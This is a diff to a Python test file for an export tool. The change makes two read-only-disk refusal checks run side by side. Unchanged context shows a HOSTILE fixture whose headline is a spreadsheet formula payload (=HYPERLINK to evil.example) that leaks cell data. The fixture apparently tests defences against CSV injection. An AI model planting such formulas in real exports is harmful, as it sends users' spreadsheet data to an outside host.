@@ -22,6 +22,7 @@ from tests.mounts import fill, remount, tmpfs
 from tests.servers import FROM_SCHEMA, Action, scripted_server
 from tests.test_batch import lines, make_articles, scripted_batch
 from tests.test_outputs import assert_one_line_reason
+from tests.together import together
 
 HOSTILE = {
     "headline": '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
@@ -154,8 +155,10 @@ def _export(results: Path, *args: str) -> Any:
 def test_an_export_onto_a_read_only_disk_is_refused_before_reading(batch_results: Path, tmp_path: Path) -> None:
     with tmpfs(tmp_path / "ro") as mount:
         remount(mount, "ro")
-        to_sqlite = _export(batch_results, "-o", str(mount / "briefs.db"))
-        to_csv = _export(batch_results, "--to", "csv", "-o", str(mount / "tables"))
+        to_sqlite, to_csv = together(  # two independent refusals: side by side
+            lambda: _export(batch_results, "-o", str(mount / "briefs.db")),
+            lambda: _export(batch_results, "--to", "csv", "-o", str(mount / "tables")),
+        )
         assert list(mount.iterdir()) == []
     assert_one_line_reason(to_sqlite, "read-only filesystem")
     assert_one_line_reason(to_csv, "read-only filesystem")
